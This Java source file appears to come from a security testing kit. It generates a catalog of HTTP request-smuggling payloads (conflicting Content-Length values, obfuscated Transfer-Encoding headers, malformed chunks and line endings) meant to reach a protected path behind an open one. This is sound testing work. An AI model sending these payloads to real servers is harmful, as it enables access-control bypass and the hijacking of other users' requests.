package dev.zt.devkit.attack;

import java.util.ArrayList;
import java.util.List;

/** A request for the open path, and one for the protected path in or behind it. */
final class SmugglingAttacks {

    private static final List<String> CODINGS = List.of(
            "Transfer-Encoding: xchunked",
            "Transfer-Encoding : chunked",
            "Transfer-Encoding:\tchunked",
            "Transfer-Encoding:chunked",
            "Transfer-Encoding: CHUNKED",
            "Transfer-Encoding: chunked, identity",
            "Transfer-Encoding: identity, chunked",
            "Transfer-Encoding: identity",
            "Transfer-Encoding: \"chunked\"",
            "Transfer-Encoding: chunked;x=1",
            "Transfer-Encoding: \u000Bchunked",
            "Transfer-Encoding: chunked\u000B",
            "Transfer-Encoding: chunked\0",
            "Transfer-Encoding:\r\n chunked",
            "Transfer-Encoding\r\n : chunked",
            " Transfer-Encoding: chunked",
            "X: x\nTransfer-Encoding: chunked",
            "X: x\rTransfer-Encoding: chunked",
            "Transfer_Encoding: chunked",
            "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
            "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
            "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
            "Transfer-Encoding: chunked, chunked",
            "Transfer-Encoding: gzip, chunked",
            "TE: chunked");

    private final Http1Text http;
    private final String openPath;
    private final String hidden;
    private final List<Attack> attacks = new ArrayList<>();

    private SmugglingAttacks(ProtectedResource resource) {
        this.http = new Http1Text(resource);
        this.openPath = resource.openPath;
        this.hidden = http.get(resource.path);
    }

    static List<Attack> of(ProtectedResource resource) {
        SmugglingAttacks attacks = new SmugglingAttacks(resource);
        attacks.lengths();
        attacks.codings();
        attacks.chunks();
        attacks.lines();
        return attacks.attacks;
    }

    /** Adds a request with these fields and this body. */
    private void add(String name, String fields, String body) {
        add("POST", name, fields, body);
    }

    private void add(String method, String name, String fields, String body) {
        attacks.add(new Attack(
                AttackClass.SMUGGLING,
                name,
                new Message.Http1(http.begin(method, openPath) + fields + "\r\n\r\n" + body)));
    }

    private void lengths() {
        String length = "Content-Length: " + hidden.length();
        add("GET", "one behind the other", "X: x", hidden);
        add("GET", "as the body of GET", length, hidden);
        add("HEAD", "as the body of HEAD", length, hidden);
        add("OPTIONS", "as the body of OPTIONS", length, hidden);
        add("as the body of POST", length, hidden);
        add("length 0", "Content-Length: 0", hidden);
        add("lengths that differ", "Content-Length: 0\r\n" + length, hidden);
        add("lengths that differ, the true one first", length + "\r\nContent-Length: 0", hidden);
        add("a list of lengths", "Content-Length: 0, " + hidden.length(), hidden);
        for (String text : List.of(
                "+0",
                "-0",
                "-1",
                "0x0",
                "00",
                "0 ",
                "0\u000B",
                "0\0",
                " ",
                "0;x",
                "0e0",
                "18446744073709551616",
                "4294967296")) {
            add("length '" + Escaped.of(text) + "'", "Content-Length: " + text, hidden);
        }
        add("a blank before the colon", "Content-Length : " + hidden.length(), hidden);
        add("a blank in front", "X: x\r\n " + length, hidden);
        add("Expect", "Expect: 100-continue\r\n" + length, hidden);
        add("Expect of something else", "Expect: 200-ok\r\n" + length, hidden);
    }

    private void codings() {
        String chunked = "0\r\n\r\n" + hidden;
        for (String coding : CODINGS) {
            add("length and " + Escaped.of(coding), "Content-Length: " + chunked.length() + "\r\n" + coding, chunked);
            add(Escaped.of(coding) + " alone", coding, chunked);
        }
        add("coding and length 4", "Transfer-Encoding: chunked\r\nContent-Length: 4", chunk(hidden) + "0\r\n\r\n");
    }

    private static String chunk(String body) {
        return Integer.toHexString(body.length()) + "\r\n" + body + "\r\n";
    }

    private void chunks() {
        String chunked = "Transfer-Encoding: chunked";
        for (String size : List.of(
                "0x0",
                "-0",
                "+0",
                " 0",
                "0 ",
                "0;x",
                "0;x=\"\r\n\"",
                "00000000000000000",
                "10000000000000000",
                "100000000",
                "G",
                "",
                "0\n",
                "0\r")) {
            add("chunk of size '" + Escaped.of(size) + "'", chunked, size + "\r\n\r\n" + hidden);
        }
        add(
                "an extension with LF",
                chunked,
                "2;\nxx\r\n" + hidden.length() + "\r\n0\r\n\r\n" + hidden + "\r\n0\r\n\r\n");
        add("a chunk that is longer than its size", chunked, "1\r\nxx\r\n0\r\n\r\n" + hidden);
        add("LF behind the last chunk", chunked, "0\n\n" + hidden);
        add("a trailer", chunked, "0\r\nContent-Length: " + hidden.length() + "\r\n\r\n" + hidden);
        add("a request as trailer", chunked, "0\r\n" + hidden);
    }

    private void lines() {
        add("GET", "LF ends the fields", "X: x\n\n" + hidden.replace("\r\n", "\n") + "Y: y", "");
        add("GET", "CR ends the fields", "X: x\r\r" + hidden + "Y: y", "");
        add("GET", "line ends in a value", "X: x\r\n\r\n" + hidden + "Y: y", "");
        add("GET", "NUL and line end in a value", "X: x\0\r\n\r\n" + hidden + "Y: y", "");
        add("GET", "a field without colon", "X\r\n\r\n" + hidden + "Y: y", "");
        add("GET", "a field without name", ": x\r\n\r\n" + hidden + "Y: y", "");
        add("GET", "a folded request line", "X: x\r\n " + hidden.replaceFirst("\r\n", "\r\n "), hidden);
        add("GET", "a field of 20,000 characters", "X: " + "x".repeat(20_000), hidden);
        add("GET", "1,000 fields", "X: x\r\n".repeat(1_000) + "Y: y", hidden);
        add("GET", "blank lines in between", "X: x", "\r\n\r\n\r\n" + hidden);
        add("GET", "an octet in between", "X: x", "\0" + hidden);
    }
}
